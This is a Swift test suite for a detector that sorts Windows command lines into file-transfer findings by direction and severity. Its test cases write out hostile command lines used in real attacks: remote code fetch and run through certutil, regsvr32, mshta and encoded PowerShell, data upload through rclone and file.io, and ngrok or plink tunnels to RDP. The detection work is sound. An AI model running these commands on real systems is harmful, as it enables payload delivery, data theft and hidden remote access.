import Detection
import Events
import Testing
import Watches

@Suite struct TransferStartTests {
    struct Case: Sendable, CustomTestStringConvertible {
        let executable: String
        let line: String
        /// Nil for no finding.
        let finding: String?
        let direction: TransferDirection?
        var testDescription: String { line }

        init(_ program: String, _ line: String, _ finding: String?, _ direction: TransferDirection?) {
            executable = program.utf8.contains(92) ? program : #"C:\Windows\System32\"# + program
            self.line = line
            self.finding = finding
            self.direction = direction
        }
    }

    static let cases = [
        Case("ftp.exe", "ftp", "transfer.ftp-command medium", .unknown),
        Case("ftp.exe", "ftp -n 203.0.113.5", "transfer.ftp-command medium", .unknown),
        Case("ftp.exe", #"ftp -n -s:C:\Users\Public\f.txt 203.0.113.5"#, "transfer.ftp-script high", .unknown),
        Case("ftp.exe", #"ftp /s:"C:\my files\f.txt""#, "transfer.ftp-script high", .unknown),
        Case("tftp.exe", "tftp -i 203.0.113.5 PUT a.db", "transfer.ftp-command medium", .upload),
        Case(#"C:\Tools\FFFTP.exe"#, "FFFTP.exe", "transfer.ftp-client medium", .unknown),
        Case(#"C:\Tools\NextFTP4.exe"#, "NextFTP4.exe", "transfer.ftp-client medium", .unknown),
        Case(#"C:\Tools\WinSCP.com"#, #"winscp.com /command "open x" "put a.zip""#, "transfer.upload high", .upload),
        Case("curl.exe", "curl --insecure http://example.com", nil, .unknown),
        Case("curl.exe", "curl -fsS http://example.com", nil, .unknown),
        Case("curl.exe", "curl -u : --ntlm http://example.com", nil, .unknown),
        Case("curl.exe", "curl -s -o NUL -w %{http_code} http://example.com", nil, .unknown),
        Case("curl.exe", "curl --output a.txt https://203.0.113.5/evil.txt", "transfer.download medium", .download),
        Case("curl.exe", "curl -sLO http://example.com/a.exe", "transfer.download medium", .download),
        Case("curl.exe", "curl -sLoa.exe http://example.com/a.exe", "transfer.download medium", .download),
        Case("curl.exe", "curl -T a.zip ftp://example.com/", "transfer.upload high", .upload),
        Case("curl.exe", "curl -F file=@a.zip https://file.io", "transfer.upload high", .upload),
        Case("curl.exe", "curl -o r.txt --data-binary @a.zip https://example.com", "transfer.upload high", .upload),
        Case("curl.exe", "curl -d user=a@b.example https://example.com", nil, .unknown),
        Case(
            "bitsadmin.exe", "bitsadmin /transfer n https://example.com/a C:\\a", "transfer.download medium", .download),
        Case(
            "bitsadmin.exe", "bitsadmin /addfile j https://example.com/a C:\\a", "transfer.download medium", .download),
        Case(
            "bitsadmin.exe", "bitsadmin /transfer j /upload https://e.example/a C:\\a", "transfer.upload high", .upload),
        Case("bitsadmin.exe", "bitsadmin /list", nil, .unknown),
        Case(
            "certutil.exe", "certutil -urlcache -split -f http://example.com/a b", "transfer.download medium", .download
        ),
        Case("certutil.exe", "certutil.exe -verifyctl -f http://example.com/a", "transfer.download medium", .download),
        Case("certutil.exe", "certutil -URL http://example.com/a", "transfer.download medium", .download),
        Case("certutil.exe", "certutil -decode a.txt a.exe", nil, nil),
        Case("certutil.exe", "certutil -urlcache * delete", nil, nil),
        Case("certreq.exe", "certreq -Post -config http://example.com/ a.txt", "transfer.upload high", .upload),
        Case("mshta.exe", "mshta http://example.com/a.hta", "transfer.download high", .download),
        Case("mshta.exe", #"mshta.exe "C:\app\a.hta""#, nil, nil),
        Case(
            "regsvr32.exe", "regsvr32 /s /u /i:https://example.com/a.sct scrobj.dll", "transfer.download high",
            .download),
        Case("regsvr32.exe", "regsvr32 /s a.dll", nil, nil),
        Case("msiexec.exe", "msiexec /q /i http://example.com/a.msi", "transfer.download medium", .download),
        Case("rundll32.exe", "rundll32.exe url.dll,OpenURL file://C:/Windows/system32/calc.exe", nil, nil),
        Case(
            "rundll32.exe", "rundll32.exe url.dll,OpenURL http://example.com/a.hta", "transfer.download medium",
            .download),
        Case("msiexec.exe", "msiexec /i a.msi SERVER=https://mdm.example", nil, nil),
        Case(
            "desktopimgdownldr.exe", "desktopimgdownldr /lockscreenurl:https://e.example/a", "transfer.download high",
            .download),
        Case(
            "powershell.exe", "powershell -c (New-Object Net.WebClient).DownloadFile('http://e.example/a','b')",
            "transfer.download medium", .download),
        Case("powershell.exe", "powershell iwr http://example.com/a -OutFile b", "transfer.download medium", .download),
        Case(
            "powershell.exe", "powershell Invoke-WebRequest -Uri $u -Method Post -InFile a.zip", "transfer.upload high",
            .upload),
        Case("powershell.exe", "powershell -File C:\\scripts\\backup.ps1", nil, nil),
        // (New-Object Net.WebClient).DownloadString('http://e.example/a') in Base64 over UTF-16.
        Case(
            "powershell.exe",
            "powershell -nop -enc KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvAGUALgBlAHgAYQBtAHAAbABlAC8AYQAnACkA",
            "transfer.download medium", .download),
        Case("scp.exe", "scp C:\\a.zip me@example.com:/tmp", "transfer.upload high", .upload),
        Case("scp.exe", "scp me@example.com:/tmp/a C:\\a", "transfer.download medium", .download),
        Case(#"C:\Temp\rclone.exe"#, "rclone.exe copy C:\\data mega:x --transfers 4", "transfer.upload high", .upload),
        Case(#"C:\Temp\rclone.exe"#, "rclone.exe copy mega:x C:\\data -P", "transfer.download medium", .download),
        Case(#"C:\Temp\rclone.exe"#, "rclone.exe lsd mega:", "transfer.program medium", .unknown),
        Case(#"C:\Temp\rclone.exe"#, "rclone.exe config", "transfer.program medium", .unknown),
        Case(
            #"C:\Temp\azcopy.exe"#, "azcopy copy C:\\data https://x.blob.core.windows.net/", "transfer.upload high",
            .upload),
        Case(#"C:\Program Files\Amazon\aws.exe"#, "aws s3 cp a.zip s3://b/", "transfer.upload high", .upload),
        Case(#"C:\Program Files\Amazon\aws.exe"#, "aws sts get-caller-identity", nil, nil),
        Case(#"C:\Temp\MEGAsync.exe"#, "MEGAsync.exe", "transfer.cloud-client medium", .unknown),
        Case(#"C:\Temp\ngrok.exe"#, "ngrok tcp 3389", "transfer.tunnel high", .unknown),
        Case(
            #"C:\Temp\plink.exe"#, "plink.exe 10.0.2.18 -P 80 -C -R 127.0.0.3:4444:127.0.0.2:3389 -l t",
            "transfer.tunnel high", .upload),
        Case("ssh.exe", "ssh admin@server", nil, nil),
        Case("xcopy.exe", #"xcopy C:\t.exe \\srv\C$\Windows\Temp\"#, "transfer.copy-to-share low", .upload),
        Case("cmd.exe", #"cmd /c copy \\srv\ADMIN$\a.txt C:\a.txt"#, "transfer.copy-to-share low", .download),
        Case(
            "esentutl.exe", #"esentutl.exe /y \\192.0.2.7\dav\a.exe /d C:\a.exe /o"#, "transfer.copy-to-share low",
            .download),
        Case("esentutl.exe", #"esentutl /y C:\a.edb /d \\?\C:\b.edb"#, nil, nil),
        Case("robocopy.exe", #"robocopy C:\data \\nas\backup /MIR"#, nil, nil),
        Case(#"C:\Windows\notepad.exe"#, "notepad ftp.txt", nil, nil),
    ]

    @Test("a start is judged by what its command line does", arguments: cases)
    func judges(_ one: Case) {
        let verdict = transferVerdict(transferStart(one.executable, one.line))
        #expect(summary(verdict) == (one.finding.map { [$0] } ?? []))
        #expect(verdict.transferDirection == one.direction)
        #expect(verdict.logs.contains(.transfer) == (one.direction != nil))
    }

    @Test("a copy under another name is known by its version resource")
    func renamed() {
        let copy = transferStart(
            #"C:\Users\Public\svc.exe"#, "svc.exe -urlcache -f http://e.example/a b", original: "CertUtil.exe")
        #expect(summary(transferVerdict(copy)) == ["transfer.renamed-program high"])
        let idle = transferStart(#"C:\Users\Public\svc.exe"#, "svc.exe -decode a b", original: "CertUtil.exe")
        #expect(summary(transferVerdict(idle)) == [])
        let client = transferStart(#"C:\Users\Public\svchost.exe"#, "svchost.exe", original: "FFFTP.exe")
        #expect(summary(transferVerdict(client)) == ["transfer.renamed-program high"])
        let own = transferStart(#"C:\Tools\WinSCP.exe"#, "WinSCP.exe", original: "winscp.exe")
        #expect(summary(transferVerdict(own)) == ["transfer.ftp-client medium"])
    }

    @Test("the address and its host are told")
    func address() {
        let verdict = transferVerdict(
            transferStart(
                #"C:\Windows\System32\certutil.exe"#,
                "certutil -urlcache -f https://User:pw@Example.COM:8443/a,b%20(GLOBAL).evtx virus.exe"))
        #expect(verdict.url == "https://User:pw@Example.COM:8443/a,b%20(GLOBAL).evtx")
        #expect(verdict.destinationDomain == "example.com")
        #expect(
            transferVerdict(transferStart(#"C:\Windows\System32\finger.exe"#, "finger u@203.0.113.6"))
                .destinationDomain == "203.0.113.6")
        #expect(
            transferVerdict(transferStart(#"C:\Windows\System32\ftp.exe"#, "ftp -n 203.0.113.5")).destinationDomain
                == "203.0.113.5")
    }

    @Test("ends of processes say nothing")
    func end() {
        var event = transferStart(#"C:\Windows\System32\ftp.exe"#, "ftp")
        event.activity = .process(ProcessActivity(.end))
        #expect(transferVerdict(event).logs.isEmpty)
    }
}
